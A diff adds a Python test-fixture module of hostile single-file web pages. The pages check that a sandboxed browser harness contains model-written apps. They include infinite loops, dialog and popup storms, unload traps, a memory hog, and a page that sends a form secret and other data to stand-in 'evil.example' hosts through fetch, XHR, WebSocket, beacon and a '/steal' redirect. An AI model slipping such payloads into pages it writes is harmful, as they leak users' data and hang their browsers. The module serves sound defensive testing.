@@ -1,0 +1,214 @@
+"""A corpus of hostile apps: what a model-written page can do to the harness, on purpose or not.
+
+Each app is a small single-file page of our own with one control at a fixed position (so a
+scripted click can aim at it) and the outcome a contained harness must show: how the rollout
+ends and what the blocked-request log must contain. The tests live in `test_hostile_apps.py`.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+
+BUTTON = (80, 40)  # every app's button: 120×40 at (20,20)
+_BUTTON_STYLE = "position:absolute;left:20px;top:20px;width:120px;height:40px"
+
+# A tiny normal app: the "next rollout on the same worker" that proves the browser recovered.
+TINY = f"""<!doctype html><body style="margin:0">
+<button id="go" style="{_BUTTON_STYLE}">Go</button><span id="n" style="position:absolute;left:200px;top:30px">0</span>
+<script>document.getElementById('go').onclick = () => {{ const n = document.getElementById('n'); n.textContent = String(+n.textContent + 1); }};</script>
+</body>"""
+TINY_CHECKER = "return document.querySelector('#n')?.textContent === '1';"
+
+# The counter most hostile apps carry, so that a contained app can still be operated.
+_COUNTER = f"""<button id="go" style="{_BUTTON_STYLE}">Go</button>
+<span id="n" style="position:absolute;left:200px;top:30px">0</span>"""
+_COUNT_ON_CLICK = "document.getElementById('go').onclick = () => { const n = document.getElementById('n'); n.textContent = String(+n.textContent + 1); };"
+COUNTER_CHECKER = "return Number(document.querySelector('#n')?.textContent) >= 1;"
+
+
+@dataclass(frozen=True)
+class HostileApp:
+    """One hostile page and what a contained rollout on it must show."""
+
+    name: str
+    html: str
+    termination: str  # the TerminationReason value the rollout must end with
+    checker: str = COUNTER_CHECKER
+    clicks: int = 1  # scripted clicks on BUTTON (the script then says `finished`)
+    # (method, resource_type or None, url prefix) every one of which must be in blocked_requests
+    must_block: tuple[tuple[str, str | None, str], ...] = ()
+    min_dialogs: int = 0
+    min_popups: int = 0
+    page_error: str | None = None  # a substring some page_errors entry must contain
+    notes: list[str] = field(default_factory=list)
+
+
+LOOP_AT_LOAD = HostileApp(
+    "loop_at_load",
+    f"<!doctype html><body style='margin:0'>{_COUNTER}<script>while (true) {{}}</script></body>",
+    termination="timeout",
+)
+
+LOOP_ON_CLICK = HostileApp(
+    "loop_on_click",
+    f"""<!doctype html><body style="margin:0">{_COUNTER}
+<script>document.getElementById('go').onclick = () => {{ while (true) {{}} }};</script></body>""",
+    termination="timeout",
+)
+
+# Never stops asking: an alert, a confirm and a prompt every tick, forever.
+DIALOG_STORM = HostileApp(
+    "dialog_storm",
+    f"""<!doctype html><body style="margin:0">{_COUNTER}
+<script>
+  {_COUNT_ON_CLICK}
+  let i = 0;
+  setInterval(() => {{ i += 1; alert('alert ' + i); confirm('confirm ' + i); prompt('prompt ' + i); }}, 0);
+</script></body>""",
+    termination="success",
+    min_dialogs=30,
+)
+
+# Asks before every unload and spins in pagehide: closing the context must not wait on it.
+BEFOREUNLOAD_TRAP = HostileApp(
+    "beforeunload_trap",
+    f"""<!doctype html><body style="margin:0">{_COUNTER}
+<script>
+  {_COUNT_ON_CLICK}
+  window.addEventListener('beforeunload', e => {{ e.preventDefault(); e.returnValue = 'Stay!'; return 'Stay!'; }});
+  window.onbeforeunload = () => 'Are you sure you want to leave?';
+  window.addEventListener('pagehide', () => {{ const end = Date.now() + 60000; while (Date.now() < end) {{}} }});
+  window.addEventListener('unload', () => {{ while (true) {{}} }});
+  // Make the trap armed: Chromium asks only after a user gesture, which the click provides.
+</script></body>""",
+    termination="success",
+)
+
+# Leaves for an external host as soon as it loads, three ways.
+EXTERNAL_REDIRECT = HostileApp(
+    "external_redirect",
+    f"""<!doctype html><head><meta http-equiv="refresh" content="0;url=https://meta.evil.example/refresh"></head>
+<body style="margin:0">{_COUNTER}
+<script>
+  {_COUNT_ON_CLICK}
+  location.replace('https://evil.example/landing?from=app');
+  setTimeout(() => {{ location.href = 'http://203.0.113.7/second'; }}, 50);
+</script></body>""",
+    termination="success",
+    must_block=(("GET", "document", "https://evil.example/landing"),),
+)
+
+POPUP_STORM = HostileApp(
+    "popup_storm",
+    f"""<!doctype html><body style="margin:0">{_COUNTER}
+<script>
+  for (let i = 0; i < 15; i++) window.open('https://ads.example/' + i, '_blank');
+  const opened = window.open('about:blank');
+  if (opened) opened.document.write('<script>while(true){{}}<\\/script>');
+  document.getElementById('go').onclick = () => {{
+    for (let i = 0; i < 5; i++) window.open('https://ads.example/click' + i);
+    const n = document.getElementById('n'); n.textContent = String(+n.textContent + 1);
+  }};
+</script></body>""",
+    termination="success",
+    min_popups=16,
+    must_block=(("GET", "document", "https://ads.example/0"),),
+)
+
+# Phones home every way a page can; the click leaves for an external host with the data.
+NETWORK_EXFILTRATION = HostileApp(
+    "network_exfiltration",
+    f"""<!doctype html><head>
+<link rel="stylesheet" href="https://css.evil.example/theme.css">
+<link rel="prefetch" href="https://prefetch.evil.example/next">
+</head><body style="margin:0">{_COUNTER}
+<img src="https://img.evil.example/pixel.gif" width="1" height="1">
+<iframe name="sink" style="display:none"></iframe>
+<form id="f" method="post" action="https://form.evil.example/collect" target="sink"><input name="secret" value="s3"></form>
+<script>
+  fetch('https://fetch.evil.example/data', {{method: 'POST', body: 'x=1'}}).catch(() => {{}});
+  const xhr = new XMLHttpRequest(); xhr.open('GET', 'https://xhr.evil.example/data'); xhr.onerror = () => {{}}; xhr.send();
+  try {{ const ws = new WebSocket('wss://ws.evil.example/socket'); ws.onerror = () => {{}}; }} catch (e) {{}}
+  try {{ navigator.sendBeacon('https://beacon.evil.example/b', 'x'); }} catch (e) {{}}
+  try {{ new EventSource('https://sse.evil.example/stream'); }} catch (e) {{}}
+  new Image().src = 'http://198.51.100.9/raw-ip.gif';
+  document.getElementById('f').submit();
+  document.getElementById('go').onclick = () => {{
+    const n = document.getElementById('n'); n.textContent = String(+n.textContent + 1);
+    location.href = 'https://redirect.evil.example/steal?count=' + n.textContent;
+  }};
+</script></body>""",
+    termination="success",
+    must_block=(
+        ("POST", "fetch", "https://fetch.evil.example/data"),
+        ("GET", "xhr", "https://xhr.evil.example/data"),
+        ("GET", "image", "https://img.evil.example/pixel.gif"),
+        ("GET", "image", "http://198.51.100.9/raw-ip.gif"),
+        ("WEBSOCKET", "websocket", "wss://ws.evil.example/socket"),
+        ("POST", "document", "https://form.evil.example/collect"),
+        ("GET", "document", "https://redirect.evil.example/steal"),
+        ("GET", "stylesheet", "https://css.evil.example/theme.css"),
+        ("POST", None, "https://beacon.evil.example/b"),
+        ("GET", None, "https://sse.evil.example/stream"),
+    ),
+)
+
+HUGE_DOM = HostileApp(
+    "huge_dom",
+    f"""<!doctype html><body style="margin:0">{_COUNTER}
+<div id="big" style="position:absolute;top:100px;left:0;width:1200px;height:560px;overflow:auto"></div>
+<script>
+  {_COUNT_ON_CLICK}
+  const big = document.getElementById('big');
+  const chunk = document.createDocumentFragment();
+  for (let i = 0; i < 100000; i++) {{ const s = document.createElement('span'); s.textContent = i + ' '; chunk.appendChild(s); }}
+  big.appendChild(chunk);
+</script></body>""",
+    termination="success",
+)
+
+# Allocates until V8 gives up: the renderer dies with an out-of-memory crash.
+MEMORY_HOG = HostileApp(
+    "memory_hog",
+    f"""<!doctype html><body style="margin:0">{_COUNTER}
+<script>
+  {_COUNT_ON_CLICK}
+  const hoard = [];
+  document.getElementById('go').onclick = () => {{
+    for (;;) {{ const block = new Array(1 << 20); for (let i = 0; i < block.length; i++) block[i] = {{i}}; hoard.push(block); }}
+  }};
+</script></body>""",
+    termination="error",
+    page_error="crash",
+)
+
+# Renders the whole UI from state into a brand-new <body> on every animation frame.
+BODY_SWAP = HostileApp(
+    "body_swap",
+    f"""<!doctype html><body style="margin:0"><script>
+  let count = 0;
+  document.addEventListener('click', e => {{ if (e.target && e.target.id === 'go') count += 1; }});
+  const render = () => {{
+    const body = document.createElement('body');
+    body.style.margin = '0';
+    body.innerHTML = `{_COUNTER}`.replace('>0<', '>' + count + '<');
+    document.body = body;
+    requestAnimationFrame(render);
+  }};
+  render();
+</script></body>""",
+    termination="success",
+)
+
+HOSTILE_APPS: list[HostileApp] = [
+    LOOP_AT_LOAD,
+    LOOP_ON_CLICK,
+    DIALOG_STORM,
+    BEFOREUNLOAD_TRAP,
+    EXTERNAL_REDIRECT,
+    POPUP_STORM,
+    NETWORK_EXFILTRATION,
+    HUGE_DOM,
+    MEMORY_HOG,
+    BODY_SWAP,
+]
